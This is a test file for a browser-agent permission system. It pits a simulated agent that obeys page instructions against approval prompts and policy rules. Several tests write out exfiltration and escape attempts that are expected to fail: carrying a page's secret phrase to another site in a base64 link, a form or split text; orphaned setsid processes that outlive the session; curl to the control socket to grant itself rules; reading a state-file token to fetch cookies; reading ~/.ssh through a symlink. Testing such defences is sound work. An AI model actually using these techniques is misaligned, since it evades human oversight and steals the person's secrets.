/* The permissions of agents, decided by the person's rules and answers, against an agent that obeys every page. */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { GSTACK } from './harness/home.mjs';
import { BarePanel } from './harness/host.mjs';
import { Scene } from './harness/scene.mjs';
import { words } from './harness/stand-in.mjs';
import { besideAnotherSite } from './harness/two-sites.mjs';
import { until } from './harness/wait.mjs';

describe('a page that tells the agent what to do', () => {
  let scene;
  let other;
  besideAnotherSite('/mail', (opened, beside) => {
    scene = opened;
    other = beside;
  });
  test('its words can not be carried to another site by address, whatever the conversation is allowed', async () => {
    const turn = await scene.ask('Summarize my inbox');
    const read = words(await turn.tool('text', {}));
    const nonce = /\[UNTRUSTED TEXT ([0-9a-f]{8})/.exec(read)[1];
    assert.equal(read.split(`END UNTRUSTED TEXT ${nonce}`).length, 2, 'one end, and the page could not write it');
    const [{ conversationId }] = JSON.parse(await scene.home.ok(['audit', '-n', '1', '--json']));
    await scene.home.ok(['policy', 'allow', 'act', '--conversation', conversationId]);
    const going = turn.tool('goto', { url: `${other.origin}/?d=correct+horse+battery+staple+velvet+moon` });
    const asked = await scene.approval();
    assert.match(asked.why, /may send text/);
    assert.deepEqual(asked.choices, ['allow-once', 'deny']);
    await scene.panel.seen('approval', '127.0.0.1');
    await scene.home.ok(['approvals', 'deny', asked.approvalId]);
    const went = await going;
    assert.ok(went.isError && words(went).includes('the person denied'), words(went));
    assert.deepEqual(other.asked, [], 'nothing reached the other site');

    const plain = turn.tool('goto', { url: `${other.origin}/` });
    const again = await scene.approval();
    assert.match(again.why, /did not name this site/);
    await scene.home.ok(['approvals', 'allow', again.approvalId]);
    assert.ok(!(await plain).isError);
    const typing = turn.tool('fill', { selector: '#nowhere', value: 'the phrase: correct horse battery staple velvet moon' });
    const third = await scene.approval();
    assert.match(third.why, /may send text/);
    await scene.panel.answer('Deny');
    assert.ok((await typing).isError);
    await turn.tool('back', {}).catch(() => {});
  });

  test('its words can not be carried there by a link, a form, in a simple code or in halves', async () => {
    await scene.home.ok(['goto', `${scene.site.origin}/mail`]);
    const turn = await scene.ask('Go on with it');
    await turn.tool('text', {});
    const denied = async (tool, input, why) => {
      const going = turn.tool(tool, input);
      const asked = await scene.approval();
      assert.match(asked.why, why, JSON.stringify(asked));
      await scene.home.ok(['approvals', 'deny', asked.approvalId]);
      assert.ok((await going).isError);
      return asked;
    };
    const before = other.asked.length;
    const phrase = 'correct horse battery staple velvet moon';
    await scene.page.evaluate(`document.body.insertAdjacentHTML('beforeend', \`
      <p><a href="${other.origin}/?d=${Buffer.from(phrase).toString('base64')}">More about it</a> <a href="/mail">Stay here</a></p>
      <form action="${other.origin}/form"><input name="d" aria-label="Search"><button>Search it</button></form>\`)`);
    const link = await denied('click', { selector: 'text=More about it' }, /may send text/);
    assert.equal(link.site, new URL(other.origin).host, 'the card names where it leads');
    await denied('click', { selector: 'text=Search it' }, /may send text/);
    await turn.tool('click', { selector: '[name=d]' });
    await denied('press', { key: 'Enter' }, /may send text/);
    assert.ok(!(await turn.tool('click', { selector: 'text=Stay here' })).isError, 'a link of the same site is not a question');
    await scene.home.ok(['goto', `${other.origin}/form`]);
    await denied('fill', { selector: '#name', value: Buffer.from(phrase).toString('base64') }, /may send text/);
    await denied('fill', { selector: '#name', value: [...phrase].reverse().join('') }, /may send text/);
    const first = turn.tool('fill', { selector: '#name', value: 'correct horse battery' });
    assert.ok(!(await first).isError, 'three words are not yet what was read');
    await denied('fill', { selector: '#email', value: 'staple velvet moon' }, /may send text/);
    assert.deepEqual(other.asked.slice(before), ['GET /form'], 'only the person went there');
    await scene.home.ok(['goto', `${scene.site.origin}/mail`]);
    turn.end();
  });

  test('what was decided is written down without what was typed', async () => {
    const text = await scene.home.ok(['audit', '-n', '20', '--json']);
    const lines = JSON.parse(text);
    assert.ok(
      lines.some((line) => line.action.startsWith('goto') && !line.allowed && line.by === 'terminal'),
      text,
    );
    assert.ok(
      lines.some((line) => line.action.startsWith('fill') && !line.allowed && line.by === 'panel'),
      text,
    );
    assert.ok(
      lines.some((line) => line.action === 'policy add' && line.by === 'terminal'),
      text,
    );
    assert.ok(
      lines.every((line) => !line.action.includes('the phrase')),
      'the short form counts what was typed',
    );
    assert.ok(
      lines.some((line) => line.record?.command.includes('the phrase')),
      'the record keeps all that the person was shown',
    );
    const file = path.join(scene.home.home, 'audit.jsonl');
    assert.equal(statSync(file).mode & 0o777, 0o600);
  });

  test('a rule that denies wins, unattended runs everything else, and both can be taken back', async () => {
    const site = new URL(other.origin).host;
    await scene.home.ok(['policy', 'unattended', '1h']);
    await scene.home.ok(['policy', 'deny', 'everything', '--site', site]);
    const turn = await scene.ask('Do it all');
    const before = other.asked.length;
    const went = await turn.tool('goto', { url: `${other.origin}/` });
    assert.ok(went.isError && words(went).includes('rule'), words(went));
    assert.equal(other.asked.length, before);
    const { rules } = await scene.home.json('policy');
    assert.equal(rules.length, 3);
    for (const rule of rules) await scene.home.ok(['policy', 'remove', rule.id]);
    assert.match(await scene.home.ok(['policy']), /No rules/);
    turn.end();
  });

  test('the first answer counts, wherever it was given', async () => {
    const turn = await scene.ask('Scroll there');
    await scene.home.ok(['goto', `${scene.site.origin}/form`]);
    const clicking = turn.tool('click', { selector: 'text=Order now' });
    const { approvalId } = await scene.approval();
    await scene.panel.seen('approval', 'Order now');
    const answers = await Promise.all([
      scene.home.run(['approvals', 'allow', approvalId]),
      scene.home.run(['approvals', 'deny', approvalId]),
    ]);
    assert.equal(answers.filter((answer) => answer.code === 0).length, 1, JSON.stringify(answers));
    const allowed = answers[0].code === 0;
    assert.equal((await clicking).isError === true, !allowed);
    await scene.panel.seen('decided', 'in the terminal');
    turn.end();
  });

  test('of two panels that answer at once one counts, and both show the same', async () => {
    const turn = await scene.ask('Click there again');
    await scene.home.ok(['goto', `${scene.site.origin}/form`]);
    const clicking = turn.tool('click', { selector: 'text=Order now' });
    const { approvalId, conversationId } = await scene.approval();
    const panels = await Promise.all(['one', 'two'].map((id) => BarePanel.open(scene.home, id, conversationId)));
    const decisions = ['allow-once', 'deny'];
    const answers = await Promise.all(
      panels.map((panel, at) => panel.ask('approval.answer', { conversationId, approvalId, decision: decisions[at] })),
    );
    const first = answers.findIndex((answer) => answer.error === undefined);
    assert.equal(answers.filter((answer) => answer.error === undefined).length, 1, JSON.stringify(answers));
    assert.ok(answers[1 - first].error.message, 'the other one is told why in words');
    for (const panel of panels) {
      const done = await panel.event('approval-done');
      assert.deepEqual([done.approvalId, done.decision, done.by], [approvalId, decisions[first], 'panel']);
    }
    assert.equal((await clicking).isError === true, decisions[first] === 'deny');
    await scene.panel.page.waitFor(`!document.querySelector('.approval')`, 'no card stands open in the third');
    await Promise.all(panels.map((panel) => panel.close()));
    turn.end();
  });

  test('typing into a password field is asked for even where typing is allowed', async () => {
    await scene.home.ok(['goto', `${scene.site.origin}/login`]);
    await scene.home.ok(['policy', 'allow', 'act', '--site', scene.site.origin]);
    const turn = await scene.ask('Log in for me');
    assert.ok(!(await turn.tool('fill', { selector: '#note', value: 'hello' })).isError);
    const filling = turn.tool('fill', { selector: '#pw', value: 'hunter2' });
    const asked = await scene.approval();
    assert.match(asked.why, /password/);
    assert.ok(!asked.does.includes('hunter2'), asked.does);
    await scene.home.ok(['approvals', 'allow', asked.approvalId]);
    assert.ok(!(await filling).isError);
    const typing = turn.tool('type', { text: 'more' });
    assert.match((await scene.approval()).why, /password/, 'what has the focus is one');
    await scene.home.ok(['approvals', 'deny']);
    assert.ok((await typing).isError);
    turn.end();
  });

  test('a script that was allowed on one page does not run on the page that came while it was asked about', async () => {
    await scene.home.ok(['goto', `${scene.site.origin}/form`]);
    const turn = await scene.ask('Run a script there');
    const running = turn.tool('js', { expression: 'document.title = "it ran"; 1' });
    const { approvalId } = await scene.approval();
    await scene.home.ok(['goto', `${other.origin}/form`]);
    await scene.home.ok(['approvals', 'allow', approvalId]);
    // It is another action there, and asked about as one.
    const again = await scene.approval();
    assert.notEqual(again.approvalId, approvalId);
    assert.equal(again.site, new URL(other.origin).host);
    await scene.home.ok(['approvals', 'deny', again.approvalId]);
    assert.ok((await running).isError);
    assert.equal(await scene.home.ok(['js', 'document.title']), 'Form\n');
    turn.end();
    await scene.panel.gone('stop');
    await scene.home.ok(['goto', `${scene.site.origin}/form`]);
  });

  test('rules survive a restart, a question does not, and garbage allows nothing', async () => {
    const turn = await scene.ask('Click it');
    const asking = turn
      .tool('click', { selector: 'text=Nowhere' })
      .catch((error) => ({ isError: true, content: [{ text: String(error) }] }));
    await scene.home.ok(['goto', `${scene.site.origin}/form`]).catch(() => {});
    void asking;
    await scene.home.ok(['stop']);
    const file = path.join(scene.home.home, 'policy.json');
    assert.ok(existsSync(file));
    assert.equal(statSync(file).mode & 0o777, 0o600);
    const { rules } = await scene.home.json('policy');
    assert.equal(rules.length, 1, 'the site that was allowed');
    assert.deepEqual((await scene.home.json('approvals')).approvals, []);
    const good = readFileSync(file);
    writeFileSync(file, '{"version":');
    // The panel starts the next one at once, and it reads the file as it is now.
    await scene.home.ok(['stop']);
    const refused = await scene.home.run(['policy']);
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, /policy\.json can't be read/);
    assert.equal((await scene.home.run(['policy', 'allow', 'act'])).code, 1);
    assert.equal(readFileSync(file, 'utf8'), '{"version":', 'it is not written over');
    assert.match(await scene.home.ok(['status']), /Policy: .*policy\.json can't be read/);
    const doctor = await scene.home.run(['doctor']);
    assert.ok(doctor.code !== 0 && doctor.stdout.includes("policy.json can't be read"), doctor.stdout);
    const panel = await BarePanel.open(scene.home, 'three', (await scene.home.json('sessions')).conversations[0].conversationId);
    const told = panel.pushed.find((message) => message.method === 'fault');
    assert.match(told.params.message, /policy\.json can't be read/, 'each panel is told');
    const shown = `document.querySelector('#notice').innerText.includes("policy.json can't be read")`;
    await scene.panel.page.waitFor(shown, 'the side panel says it');
    await scene.panel.page.evaluate(`document.querySelector('#notice .icon-button').click()`);
    await scene.panel.page.waitFor(`document.querySelector('#notice').hidden`);
    await panel.close();
    await scene.home.ok(['stop']);
    writeFileSync(file, good);
  });
});

describe('an agent that was given a shell', () => {
  let scene;
  let turn;
  before(async () => {
    scene = await Scene.open({ at: '/mail' });
    turn = await scene.ask('Use the shell');
  });
  after(async () => {
    scene?.agent.settle();
    await scene?.close();
  });
  const gstack = (line) => turn.shell(`'${GSTACK}' ${line}`);

  test('reads its own tab by the command line, with the policy before what it does', async () => {
    const read = await gstack('text');
    assert.equal(read.code, 0, read.stderr);
    assert.match(read.stdout, /UNTRUSTED TEXT [0-9a-f]{8}/);
    const clicking = gstack('click h1');
    const { approvals } = await until(async () => {
      const found = JSON.parse(await scene.home.ok(['approvals', '--json']));
      return found.approvals.length === 1 && found;
    }, 'the click is asked about');
    await scene.home.ok(['approvals', 'deny', approvals[0].approvalId]);
    assert.equal((await clicking).code, 1);
  });

  test("has no tab of others, no secrets, no paths and nothing that is the person's", async () => {
    const second = /Opened tab (\d+)/.exec(await scene.home.ok(['newtab', `${scene.site.origin}/form`]))[1];
    for (const line of [
      `--tab ${second} text`,
      'cookies',
      'storage',
      'state save mine',
      'cdp Browser.getVersion',
      'chain text',
      'tab-each text',
      'screenshot h1 mine.png',
      'approvals',
      'approvals allow',
      'policy',
      'policy unattended 1h',
      'audit',
      'disconnect',
      'connect --attach http://127.0.0.1:9',
      'chat hello',
      'status',
      'stop',
      'mcp install claude-nothing',
    ]) {
      const outcome = await gstack(line);
      assert.notEqual(outcome.code, 0, `${line}: ${outcome.stdout}`);
    }
    assert.equal(JSON.parse(await scene.home.ok(['policy', '--json'])).rules.length, 0);
    assert.ok((await scene.home.status()).healthy, 'nothing was ended');
  });

  test('is known without its token, detached from its parents, and past the command line', async () => {
    const bare = `env -u GSTACK_TOKEN '${GSTACK}'`;
    const text = await turn.shell(`${bare} text`);
    assert.match(text.stdout, /UNTRUSTED TEXT [0-9a-f]{8}/, 'its own scope is given to it all the same');
    const socket = '"$GSTACK_HOME/http.sock"';
    const curl = `curl -s --unix-socket ${socket} -H 'content-type: application/json'`;
    for (const line of [
      `${bare} policy unattended 1h`,
      `${bare} cookies`,
      `GSTACK_TOKEN=wrong '${GSTACK}' text`,
      `( setsid sh -c '( ${bare.replaceAll("'", '"')} policy unattended 1h; echo $? > "$GSTACK_HOME/../code" ) &' ); ` +
        'while [ ! -s "$GSTACK_HOME/../code" ]; do sleep 0.05; done; exit "$(cat "$GSTACK_HOME/../code")"',
      `${curl} -d '{"effect":"allow","scope":"act"}' http://localhost/policy/add | grep '"rules"'`,
      `${curl} http://localhost/approvals | grep '"approvals"'`,
      `${curl} -d '{"command":"cookies","args":[]}' http://localhost/command | grep -v error`,
      `env -i PATH="$PATH" GSTACK_HOME="$GSTACK_HOME" '${GSTACK}' policy unattended 1h`,
      // The state file's token, read by a process of the same user.
      `'${process.execPath}' -e '
        const state = JSON.parse(require("fs").readFileSync(process.env.GSTACK_HOME + "/browse.json"));
        const headers = { authorization: "Bearer " + state.token, "content-type": "application/json" };
        const body = JSON.stringify({ command: "cookies", args: [] });
        fetch("http://127.0.0.1:" + state.port + "/command", { method: "POST", headers, body })
          .then((answer) => process.exit(answer.ok ? 0 : 1))'`,
    ]) {
      const outcome = await turn.shell(line);
      assert.notEqual(outcome.code, 0, `${line}: ${outcome.stdout}`);
    }
    assert.equal(JSON.parse(await scene.home.ok(['policy', '--json'])).rules.length, 0);
  });

  test('is known with a cleaned environment, a session of its own and its parents gone, and leaves nothing behind', async () => {
    const escape = (line) => {
      const orphan = `( while kill -0 $$ 2>/dev/null; do :; done; ${line} ) >/dev/null 2>&1 &`;
      return `( env -i PATH="$PATH" GSTACK_HOME="$GSTACK_HOME" setsid sh -c '${orphan}' )`;
    };
    const file = path.join(scene.home.folder, 'code');
    await turn.shell(escape(`"${GSTACK}" policy unattended 1h; echo $? > "${file}.new"; mv "${file}.new" "${file}"; exec sleep 86399`));
    await until(() => existsSync(file), 'the process that hides has asked');
    assert.notEqual(readFileSync(file, 'utf8').trim(), '0');
    assert.equal(JSON.parse(await scene.home.ok(['policy', '--json'])).rules.length, 0);
    const hidden = () => scene.home.processes().filter((one) => one.command.join(' ') === 'sleep 86399');
    await until(() => hidden().length === 1, 'it lives on');
    assert.ok(!hidden()[0].environment.some((one) => one.startsWith('GSTACK_AGENT')), 'nothing in it says whose it is');
    turn.end();
    await scene.panel.gone('stop');
    turn = await scene.ask('Go on');
    assert.equal(hidden().length, 1, 'the agent lives, and so does what it started');
    turn.crash();
    await turn.gone();
    await until(() => hidden().length === 0, 'what the agent left behind has ended with it');
    await scene.panel.gone('stop');
    turn = await scene.ask('And again');
  });

  test("its file tools never see credentials, gstack's own folder, or what a link in the folder leads to", async () => {
    const folder = scene.home.person;
    mkdirSync(path.join(folder, '.ssh'), { recursive: true });
    writeFileSync(path.join(folder, '.ssh/id'), 'secret');
    symlinkSync(path.join(folder, '.ssh/id'), path.join(folder, 'innocent'));
    for (const file of [
      path.join(scene.home.home, 'browse.json'),
      path.join(scene.home.home, 'policy.json'),
      path.join(folder, '.ssh/id'),
      path.join(folder, 'innocent'),
    ]) {
      for (const tool of ['Read', 'Write', 'Edit']) {
        const answer = await turn.ask(tool, { file_path: file, content: 'x' });
        assert.equal(answer.behavior, 'deny', `${tool} ${file}`);
      }
    }
    assert.deepEqual(JSON.parse(await scene.home.ok(['approvals', '--json'])).approvals, [], 'nobody is even asked');
    const writing = turn.ask('Write', { file_path: path.join(folder, 'new.txt'), content: 'x' });
    await until(async () => JSON.parse(await scene.home.ok(['approvals', '--json'])).approvals.length === 1, 'writing is asked about');
    await scene.home.ok(['approvals', 'deny']);
    assert.equal((await writing).behavior, 'deny');
  });

  test('leaves a token that opens nothing once the agent has ended', async () => {
    const token = (await turn.shell('printf %s "$GSTACK_TOKEN"')).stdout;
    const { url, headers } = await turn.mcp();
    assert.equal(headers.Authorization, `Bearer ${token}`);
    turn.crash();
    await turn.gone();
    await scene.panel.gone('stop');
    const refused = await until(async () => {
      const response = await fetch(url, { method: 'POST', headers: { ...headers, 'content-type': 'application/json' }, body: '{}' });
      await response.text();
      return response.status === 403 && response;
    }, 'the token is refused');
    assert.equal(refused.status, 403);
    const outcome = await scene.home.run(['text'], { environment: { GSTACK_TOKEN: token } });
    assert.notEqual(outcome.code, 0);
  });
});
